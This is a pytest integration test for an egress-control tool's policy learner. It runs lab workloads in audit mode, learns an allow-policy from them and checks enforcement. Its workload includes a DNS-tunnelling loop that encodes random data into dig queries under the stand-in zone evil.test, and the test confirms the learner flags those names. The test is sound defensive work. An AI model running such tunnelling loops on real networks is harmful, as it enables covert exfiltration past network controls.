"""Issue 16: learn a policy from audit runs, then enforce it (egress.learn, `egressctl learn`).

A scripted workload runs twice in `mode: audit` against the lab: pip-like, npm-like and
git-like fetches (curl and git against the lab's sites), four names under one subtree,
a name only the first run asks and one only the second asks (siblings, but two: too few
for a pattern, as are the three fetch hosts directly under lab.test); the first run also sends a
burst of tunnel-shaped names. `egressctl learn` turns the two runs into a policy; the
workload then runs in enforce mode under it, with every violation class set to freeze,
and must finish with no violation. Checked there and at the lab: what the learned policy
allows (the names asked, patterns only for four siblings, no name never asked), what it
sets aside (the tunnel's names, as commented risks), and what reached the lab's servers.
"""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

import pytest

from egress.lab import Lab
from egress.policy.loader import load_policy
from egress.policy.matcher import Matcher
from tests.support.sandboxes import EGRESSCTL
from tests.support.tools import ToolRun, run_tool, tool_env

pytestmark = [pytest.mark.privileged, pytest.mark.usefixtures("require_root")]

STRICT = """
  violations: {blocked_connect: freeze, denied_name: freeze, denied_type: freeze,
               tunnel: freeze, foreign_dns: freeze, rebinding: freeze, layer_loss: freeze,
               name_mismatch: freeze}
"""

# Everything allowed and journaled. evil.test is scored although .test is special-use,
# so the tunnel burst below meets the scorer when the learner replays the names.
AUDIT = (
    """apiVersion: egress/v1
kind: Policy
metadata: {name: lab-learned}
spec:
  mode: audit
  dns:
    upstreams: ["198.51.100.53"]
    allow: []
  tunnel: {zones: [{zone: evil.test, exempt: false}]}
"""
    + STRICT
)

FETCHES = """set -eu
curl -fsS -o /dev/null http://pypi.lab.test/simple/egress-lab-hello/
curl -fsS -o /dev/null --cacert ca.pem https://npm.lab.test/egress-lab-hello
if command -v git >/dev/null; then git clone -q http://git.lab.test/hello.git repo; fi
for x in a1 b2 c3 d4; do curl -sS -o /dev/null http://$x.wild.lab.test/; done
"""
ONLY_FIRST = "curl -sS -o /dev/null http://a1.cdn.lab.test/\n"
ONLY_SECOND = "curl -sS -o /dev/null http://a2.cdn.lab.test/\n"
# 60 names of 48 random base32 characters under one zone, as fast as the lab answers:
# each is plain enough alone, together they carry 1.8 KB.
TUNNEL = """for i in $(seq 60); do
  dig +short +tries=1 +time=2 @127.0.0.53 \\
      "$(head -c 30 /dev/urandom | base32 | tr -d = | tr A-Z a-z).evil.test" >/dev/null || true
done
"""
NEVER_ASKED = (
    "denied.lab.test",
    "allowed.lab.test",
    "a3.cdn.lab.test",
    "lab.test",
    "www.evil.test",
)


def learn(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([*EGRESSCTL, "learn", *args], env=tool_env(), capture_output=True,
                          text=True, timeout=60, check=False)  # fmt: skip


def hosts(run: ToolRun) -> set[str]:
    return {r["host"] for r in run.requests}


def test_a_policy_learned_from_two_audit_runs_enforces_the_workload_with_no_violation(
    lab: Lab, tmp_path: Path
) -> None:
    if not lab.ca_file:
        pytest.skip("the lab has no TLS (openssl not installed)")
    ca = {"ca.pem": lab.ca_file}
    ids = []
    for script in (FETCHES + ONLY_FIRST + TUNNEL, FETCHES + ONLY_SECOND):
        with run_tool(lab, AUDIT, script, files=ca) as run:
            assert run.rc == 0, run.explain()
            ids.append(run.report["sandbox"])
            assert {"pypi.lab.test", "npm.lab.test", "a1.wild.lab.test"} <= hosts(run)
    base = tmp_path / "audit.yaml"
    base.write_text(AUDIT)
    learned = tmp_path / "learned.yaml"
    done = learn("--sandbox", ids[0], "--sandbox", ids[1], "--base", str(base), "-o", str(learned))
    assert done.returncode == 0, done.stderr
    text = learned.read_text()
    policy = load_policy(str(learned))
    m = Matcher(policy)
    patterns = {r.pattern.text for r in policy.dns.allow}
    expected = {
        "pypi.lab.test",
        "npm.lab.test",
        "*.wild.lab.test",
        "a1.cdn.lab.test",
        "a2.cdn.lab.test",
    }
    if shutil.which("git"):
        expected.add("git.lab.test")
    assert patterns == expected, text
    for name in NEVER_ASKED:
        assert not m.decide(name, 1).allowed, name
    assert not any(
        m.decide(q["qname"], 1).name_allowed for q in lab.queries() if "evil.test" in q["qname"]
    )
    assert "# RISK: under evil.test, which the tunnel scorer flags" in text, text
    assert text.count(".evil.test  # 1 query in 1 sandbox") >= 55, text
    ports = {r.pattern.text: [str(p) for p in r.ports.tcp] for r in policy.dns.allow}
    # npm.lab.test shares 203.0.113.12 with *.wild.lab.test: each gets only the port its
    # own flows asked for (TLS SNI on 443, HTTP Host on 80)
    assert ports["npm.lab.test"] == ["443"] and ports["*.wild.lab.test"] == ["80"], text
    assert ports["pypi.lab.test"] == ["80"] and all(not r.ports.udp for r in policy.dns.allow)
    assert f"from 2 audit runs ({', '.join(sorted(ids))})" in text

    enforce = FETCHES + ONLY_FIRST + ONLY_SECOND
    with run_tool(lab, learned, enforce, files=ca) as run:
        assert run.rc == 0, run.explain()
        assert run.violations() == [], run.explain()
        assert not run.report["frozen"], run.explain()
        assert run.report["counters"]["dns_denied"] == 0, run.explain()
        assert hosts(run) >= {"pypi.lab.test", "npm.lab.test", "a1.cdn.lab.test", "a2.cdn.lab.test",
                              "a1.wild.lab.test", "d4.wild.lab.test"}, run.explain()  # fmt: skip

    # A name the workload never asked is refused (the base says freeze: frozen, then
    # killed when nobody resumes it), and reaches neither lab server.
    probe = "curl -sS -m 5 -o /dev/null http://denied.lab.test/\n"
    with run_tool(lab, learned, probe) as run:
        assert run.report["frozen"] and run.rc == 137, run.explain()
        assert {v["class"] for v in run.violations()} == {"denied_name"}, run.explain()
        assert not any(r["host"] == "denied.lab.test" for r in run.requests), run.explain()
        assert not any(q["qname"] == "denied.lab.test" for q in run.queries), run.explain()


def test_learn_diff_against_the_policy_the_runs_were_not_under(lab: Lab) -> None:
    """--diff lists what the runs needed beyond a shipped policy, and what it allows unused."""
    with run_tool(lab, AUDIT, "curl -sS -o /dev/null http://pypi.lab.test/simple/\n") as run:
        sid = run.report["sandbox"]
    done = learn("--sandbox", sid, "--diff", "tests/data/policies/lab_git.yaml")
    assert done.returncode == 0, done.stderr
    lines = done.stdout.splitlines()
    assert any(line.startswith("+ pypi.lab.test: A (no rule matches") for line in lines), lines
    assert any(line.startswith("- dns.allow[0] git.lab.test") for line in lines), lines
